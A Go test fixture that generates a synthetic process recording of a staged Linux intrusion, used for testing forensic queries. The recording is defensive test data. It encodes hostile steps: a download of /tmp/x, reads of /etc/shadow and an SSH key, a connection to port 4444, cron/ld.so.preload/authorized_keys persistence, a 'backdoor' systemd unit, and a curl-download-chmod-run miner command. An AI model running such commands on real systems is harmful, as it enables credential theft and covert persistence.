//go:build duckdb_arrow

package queries

import (
	"fmt"
	"time"

	"github.com/rewind-sh/rewind/format"
)

// The synthetic recording in testdata/rec (rewritten by `go test
// -update`) holds one small incident that exercises every named query:
//
//	sshd 500 -> bash 1000 (alice)
//	  -> curl 1001: downloads /tmp/x (write, outbound 203.0.113.7:443)
//	  -> chmod 1002: chmod +x /tmp/x
//	  -> /tmp/x 1003: reads /etc/shadow and alice's ssh key, tries
//	     setuid(0), connects to 198.51.100.9:4444, writes cron, bashrc,
//	     authorized_keys and ld.so.preload; forks 1004 (no exec) which
//	     reads /etc/passwd
//	  -> sudo 1005 (euid 0) -> systemctl 1006 writes a systemd unit
//	  -> psql 1007 connects to 127.0.0.1:5432 and a unix socket; its
//	     fork row is recorded after its exec (the race the process
//	     tables must tolerate)
//	containerd-shim 700 -> nginx 710 (container) -> sh 1100 writes and
//	  runs /usr/local/bin/miner in the upper layer, which connects out
//	cron 600 -> pid 1001 again (reused) runs backup.sh
//
// The recording has two segments (so two keyframes) and heartbeats that
// report kernel and user-space drops.

var sampleT0 = time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC).UnixNano()

const (
	containerID = "c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00"
	bootNs      = 1795000000000000000 // keyframe start times are before this
)

// sampleProc is what the generator knows of a live process.
type sampleProc struct {
	pid, ppid   int32
	uid, euid   uint32
	comm, exe   string
	argv        []string
	ino         uint64
	ctime       int64
	size        int64
	start       int64
	container   string
	upper       bool
	cgroup      string
	initStartTs int64
}

type sampleGen struct {
	w    *format.Writer
	live map[int32]*sampleProc
	seq  uint64
	now  int64
	err  error
	// hashed holds the executable identities already given an exe_hash
	// row, as the recorder's cache would.
	hashed map[uint64]bool
}

func (g *sampleGen) add(ev *format.Event) {
	if g.err != nil {
		return
	}
	if ev.Kind != format.KindKeyframe && ev.Kind != format.KindUser && ev.Kind != format.KindGroup &&
		ev.Kind != format.KindExeHash && ev.Kind != format.KindHeartbeat {
		g.seq++
		ev.Seq = g.seq
		ev.CPU = uint16(g.seq % 2)
	}
	g.err = g.w.Append(ev)
}

// procEvent fills the process columns of ev from p.
func procEvent(ev *format.Event, p *sampleProc) {
	ev.Pid, ev.Tid, ev.Ppid = p.pid, p.pid, p.ppid
	ev.Vpid, ev.Vtid = p.pid, p.pid
	if p.container != "" {
		ev.Vpid, ev.Vtid = p.pid-700, p.pid-700
		ev.PidNs, ev.MntNs, ev.NetNs = 4026532900, 4026532901, 4026532902
	} else {
		ev.PidNs, ev.MntNs, ev.NetNs = 4026531836, 4026531841, 4026531840
	}
	ev.UtsNs, ev.IpcNs, ev.UserNs, ev.CgroupNs = 4026531838, 4026531839, 4026531837, 4026531835
	ev.UID, ev.GID, ev.EUID, ev.EGID = p.uid, p.uid, p.euid, p.euid
	ev.LoginUID = 4294967295
	if p.uid == 1000 {
		ev.LoginUID = 1000
	}
	ev.Comm, ev.ExePath = p.comm, p.exe
	ev.ExeDev, ev.ExeIno = 0x803, p.ino
	ev.CgroupID = 1000 + uint64(p.pid)
	ev.ContainerID = p.container
}

func imageEvent(ev *format.Event, p *sampleProc) {
	ev.Argv = p.argv
	ev.Filename = p.exe
	ev.Cwd = "/"
	ev.ExeCtime, ev.ExeMtime = p.ctime, p.ctime
	ev.ExeMode = 0o100755
	ev.ExeSize = p.size
	ev.ExeUpperLayer = p.upper
	ev.ExeLowerLayer = p.container != "" && !p.upper
	ev.StartTs = p.start
	ev.PidnsInitStartTs = p.initStartTs
	ev.CgroupPath = p.cgroup
	if p.container != "" {
		ev.ContainerRuntime = "containerd"
	}
	ev.Sid, ev.Pgid = p.pid, p.pid
}

func sha(exe string) string {
	s := fmt.Sprintf("%x", exe)
	for len(s) < 64 {
		s += s
	}
	return s[:64]
}

func (g *sampleGen) keyframe(emit func(*format.Event) error) error {
	for _, u := range []struct {
		uid               uint32
		name, home, shell string
	}{{0, "root", "/root", "/bin/bash"}, {33, "www-data", "/var/www", "/usr/sbin/nologin"}, {1000, "alice", "/home/alice", "/bin/bash"}} {
		if err := emit(&format.Event{Ts: g.now, Kind: format.KindUser, UID: u.uid, UserName: u.name, UserHome: u.home, UserShell: u.shell}); err != nil {
			return err
		}
		if err := emit(&format.Event{Ts: g.now, Kind: format.KindGroup, GID: u.uid, GroupName: u.name}); err != nil {
			return err
		}
	}
	for _, pid := range sortedPids(g.live) {
		p := g.live[pid]
		ev := &format.Event{Ts: g.now, Kind: format.KindKeyframe, State: "S"}
		procEvent(ev, p)
		imageEvent(ev, p)
		// /proc start times have clock-tick resolution.
		ev.StartTs = p.start - p.start%10_000_000
		if err := emit(ev); err != nil {
			return err
		}
	}
	return nil
}

func sortedPids(m map[int32]*sampleProc) []int32 {
	var out []int32
	for pid := range m {
		out = append(out, pid)
	}
	for i := range out {
		for j := i + 1; j < len(out); j++ {
			if out[j] < out[i] {
				out[i], out[j] = out[j], out[i]
			}
		}
	}
	return out
}

func (g *sampleGen) at(ms int64) { g.now = sampleT0 + ms*1_000_000 }

func (g *sampleGen) proc(pid int32) *sampleProc {
	p := g.live[pid]
	if p == nil && g.err == nil {
		g.err = fmt.Errorf("sample: pid %d is not live", pid)
	}
	return p
}

func (g *sampleGen) event(kind format.Kind, syscall string, pid int32) *format.Event {
	ev := &format.Event{Ts: g.now, Kind: kind, Syscall: syscall}
	if p := g.proc(pid); p != nil {
		procEvent(ev, p)
	}
	return ev
}

func (g *sampleGen) hash(p *sampleProc) {
	if g.hashed[p.ino] {
		return
	}
	g.hashed[p.ino] = true
	ev := &format.Event{Ts: g.now, Kind: format.KindExeHash, ExeDev: 0x803, ExeIno: p.ino,
		ExeCtime: p.ctime, ExeMtime: p.ctime, ExeSize: p.size, Sha256: sha(p.exe), HashSource: "proc_exe"}
	g.add(ev)
}

// fork records parent's fork of child; the child starts 20us earlier,
// when the kernel created it.
func (g *sampleGen) fork(parent, child int32) {
	p := g.proc(parent)
	if p == nil {
		return
	}
	c := *p
	c.pid, c.ppid, c.start = child, parent, g.now-20_000
	g.live[child] = &c
	g.forkRow(parent, child)
}

func (g *sampleGen) forkRow(parent, child int32) {
	ev := g.event(format.KindFork, "clone", parent)
	ev.ChildPid, ev.ChildTid, ev.CloneFlags = child, child, 17
	ev.Ret = int64(child)
	g.add(ev)
}

func (g *sampleGen) exec(pid int32, exe string, ino uint64, ctimeMs int64, argv ...string) {
	p := g.proc(pid)
	if p == nil {
		return
	}
	p.exe, p.ino, p.argv, p.size = exe, ino, argv, int64(10000+ino)
	p.ctime = sampleT0 + ctimeMs*1_000_000
	p.comm = exe[len(exe)-min(len(exe), 15):]
	for i := len(exe) - 1; i >= 0; i-- {
		if exe[i] == '/' {
			p.comm = exe[i+1:]
			break
		}
	}
	ev := g.event(format.KindExec, "execve", pid)
	imageEvent(ev, p)
	ev.Filename = exe
	g.add(ev)
	g.hash(p)
}

func (g *sampleGen) open(pid int32, path string, flags uint64, ret int64) {
	ev := g.event(format.KindOpen, "openat", pid)
	ev.Path, ev.PathRaw, ev.Flags, ev.Mode, ev.Ret = path, path, flags, 0o644, ret
	if ret >= 0 {
		ev.Fd, ev.Dev, ev.Ino = int32(ret), 0x803, uint64(len(path))*977
	}
	g.add(ev)
}

func (g *sampleGen) file(pid int32, syscall, path string, mode uint32) {
	ev := g.event(format.KindFile, syscall, pid)
	ev.Path, ev.PathRaw, ev.Mode = path, path, mode
	ev.Dev, ev.Ino = 0x803, uint64(len(path))*977
	g.add(ev)
}

func (g *sampleGen) connect(pid int32, family uint16, proto, daddr string, dport uint16) {
	ev := g.event(format.KindNet, "connect", pid)
	ev.Family, ev.SockType, ev.Proto, ev.Daddr, ev.Dport, ev.Fd = family, 1, proto, daddr, dport, 5
	if family == 2 {
		ev.Saddr, ev.Sport = "10.0.0.5", 40000+dport%1000
	}
	g.add(ev)
}

func (g *sampleGen) setuid(pid int32, uid uint32, ret int64) {
	ev := g.event(format.KindSecurity, "setuid", pid)
	ev.NewUID, ev.Ret = uid, ret
	// setuid names one id; the other security arguments are not part of
	// it and are stored as null, as the recorder does.
	for _, c := range []format.ColumnID{format.ColNewGID, format.ColNewEUID, format.ColNewSUID, format.ColNewEGID,
		format.ColNewSGID, format.ColCapPermitted, format.ColCapInheritable, format.ColNsFlags, format.ColTargetPid,
		format.ColSignal, format.ColOp, format.ColAddr, format.ColLen, format.ColProt, format.ColFlags, format.ColFd} {
		ev.Null.Add(c)
	}
	g.add(ev)
}

func (g *sampleGen) exit(pid int32, code int32) {
	ev := g.event(format.KindExit, "sched_process_exit", pid)
	ev.ExitCode = code
	g.add(ev)
	delete(g.live, pid)
}

func (g *sampleGen) heartbeat(kernel0, kernel1, user uint64) {
	g.add(&format.Event{Ts: g.now, Kind: format.KindHeartbeat, DropsPerCPU: []uint64{kernel0, kernel1},
		DropsUser: user, RingUsedBytes: 4096, RingSizeBytes: 8 << 20, RecorderCPUNs: 1_000_000, RecorderRSSBytes: 40 << 20,
		EventsPerKind: []format.KindCount{{Kind: "exec", Count: 10}}})
}

const (
	oRdonly = 0
	oWrite  = 0x241 // O_WRONLY|O_CREAT|O_TRUNC
	oAppend = 0x441 // O_WRONLY|O_CREAT|O_APPEND
)

// writeSampleRecording writes the recording described at the top of
// this file into dir (which must not hold one).
func writeSampleRecording(dir string) error {
	g := &sampleGen{live: map[int32]*sampleProc{}, hashed: map[uint64]bool{}}
	boot := sampleT0 - 3600*1_000_000_000
	for _, p := range []*sampleProc{
		{pid: 1, exe: "/usr/lib/systemd/systemd", comm: "systemd", ino: 11, argv: []string{"/sbin/init"}},
		{pid: 500, ppid: 1, exe: "/usr/sbin/sshd", comm: "sshd", ino: 12, argv: []string{"sshd: alice [priv]"}},
		{pid: 600, ppid: 1, exe: "/usr/sbin/cron", comm: "cron", ino: 13, argv: []string{"/usr/sbin/cron", "-f"}},
		{pid: 700, ppid: 1, exe: "/usr/bin/containerd-shim-runc-v2", comm: "containerd-shim", ino: 14, argv: []string{"containerd-shim-runc-v2"}},
		{pid: 710, ppid: 700, exe: "/usr/sbin/nginx", comm: "nginx", ino: 15, argv: []string{"nginx", "-g", "daemon off;"}, container: containerID},
	} {
		p.start = boot + int64(p.pid)*1_000_000_123
		p.ctime = boot - 86400*1_000_000_000
		p.size = int64(10000 + p.ino)
		p.cgroup = "/system.slice"
		if p.container != "" {
			p.cgroup = "/system.slice/docker-" + containerID + ".scope"
			p.initStartTs = p.start
			p.uid, p.euid = 0, 0
		}
		g.live[p.pid] = p
	}
	g.at(0)
	w, err := format.Create(format.WriterOptions{
		Dir:      dir,
		Keyframe: g.keyframe,
		Host:     format.HostInfo{Hostname: "sample-host", BootID: "00000000-0000-4000-8000-000000000001", KernelRelease: "6.8.0-test", RecorderVersion: "test", BootTimeNs: bootNs, NumCPU: 2},
		Now:      func() time.Time { return time.Unix(0, g.now) },
	})
	if err != nil {
		return err
	}
	g.w = w
	for _, pid := range sortedPids(g.live) {
		g.hash(g.live[pid])
	}

	g.at(100)
	g.fork(500, 1000)
	g.at(101)
	g.live[1000].uid, g.live[1000].euid = 1000, 1000
	g.exec(1000, "/usr/bin/bash", 20, -86400_000, "-bash")
	g.open(1000, "/home/alice/.bashrc", oRdonly, 3)

	g.at(1000)
	g.heartbeat(0, 0, 0)
	g.fork(1000, 1001)
	g.at(1001)
	g.exec(1001, "/usr/bin/curl", 21, -86400_000, "curl", "-so", "/tmp/x", "https://203.0.113.7/x")
	g.connect(1001, 2, "tcp", "203.0.113.7", 443)
	g.at(1200)
	g.open(1001, "/tmp/x", oWrite, 4)
	g.at(1300)
	g.exit(1001, 0)

	g.at(1400)
	g.fork(1000, 1002)
	g.at(1401)
	g.exec(1002, "/usr/bin/chmod", 22, -86400_000, "chmod", "+x", "/tmp/x")
	g.file(1002, "fchmodat", "/tmp/x", 0o755)
	g.at(1402)
	g.exit(1002, 0)

	g.at(2000)
	g.heartbeat(0, 0, 0)
	g.fork(1000, 1003)
	g.at(2001)
	g.exec(1003, "/tmp/x", 30, 1200, "/tmp/x")
	g.at(2100)
	g.open(1003, "/etc/shadow", oRdonly, -13)
	g.open(1003, "/home/alice/.ssh/id_rsa", oRdonly, 3)
	g.setuid(1003, 0, -1)
	g.connect(1003, 2, "tcp", "198.51.100.9", 4444)
	g.at(2200)
	g.open(1003, "/etc/cron.d/evil", oWrite, 4)
	g.open(1003, "/home/alice/.bashrc", oAppend, 5)
	g.open(1003, "/home/alice/.ssh/authorized_keys", oAppend, 6)
	g.open(1003, "/etc/ld.so.preload", oWrite, 7)
	g.fork(1003, 1004)
	g.at(2300)
	g.open(1004, "/etc/passwd", oRdonly, 3)
	g.exit(1004, 0)
	g.at(2400)
	g.exit(1003, 0)

	// The second segment starts here, with a keyframe of what is live.
	g.at(3000)
	g.heartbeat(0, 5, 2)
	if g.err == nil {
		g.err = w.Rotate()
	}

	g.at(3100)
	g.fork(710, 1100)
	g.at(3101)
	g.exec(1100, "/bin/sh", 40, -86400_000, "/bin/sh", "-c", "curl -o /usr/local/bin/miner http://192.0.2.50/m; chmod +x /usr/local/bin/miner; /usr/local/bin/miner")
	g.at(3200)
	g.open(1100, "/usr/local/bin/miner", oWrite, 3)
	g.file(1100, "chmod", "/usr/local/bin/miner", 0o755)
	g.at(3300)
	g.live[1100].upper = true
	g.exec(1100, "/usr/local/bin/miner", 41, 3200, "/usr/local/bin/miner", "--pool", "192.0.2.50:3333")
	g.connect(1100, 2, "tcp", "192.0.2.50", 3333)

	g.at(4000)
	g.heartbeat(0, 5, 2)
	g.fork(1000, 1005)
	g.at(4001)
	g.live[1005].euid = 0
	g.exec(1005, "/usr/bin/sudo", 23, -86400_000, "sudo", "systemctl", "enable", "backdoor")
	g.fork(1005, 1006)
	g.at(4002)
	g.live[1006].uid = 0
	g.exec(1006, "/usr/bin/systemctl", 24, -86400_000, "systemctl", "enable", "backdoor")
	g.open(1006, "/etc/systemd/system/backdoor.service", oWrite, 3)
	g.file(1006, "symlinkat", "/etc/systemd/system/multi-user.target.wants/backdoor.service", 0)
	g.at(4003)
	g.exit(1006, 0)
	g.exit(1005, 0)

	// psql: the child's exec is recorded before its parent's fork returns.
	g.at(4500)
	if p := g.proc(1000); p != nil {
		c := *p
		c.pid, c.ppid, c.start = 1007, 1000, g.now-20_000
		g.live[1007] = &c
	}
	g.at(4501)
	g.exec(1007, "/usr/bin/psql", 25, -86400_000, "psql", "-h", "127.0.0.1")
	g.at(4502)
	g.forkRow(1000, 1007)
	g.connect(1007, 2, "tcp", "127.0.0.1", 5432)
	g.connect(1007, 1, "unix", "/run/postgresql/.s.PGSQL.5432", 0)
	g.at(4600)
	g.exit(1007, 0)

	// pid 1001 again, now a child of cron.
	g.at(5000)
	g.heartbeat(0, 5, 2)
	g.fork(600, 1001)
	g.at(5001)
	g.exec(1001, "/usr/local/sbin/backup.sh", 26, -86400_000, "/bin/sh", "/usr/local/sbin/backup.sh")
	g.open(1001, "/var/backups/db.tar", oWrite, 3)
	g.at(5100)
	g.exit(1001, 0)
	g.at(6000)
	g.heartbeat(0, 5, 2)
	if g.err != nil {
		w.Close()
		return g.err
	}
	return w.Close()
}
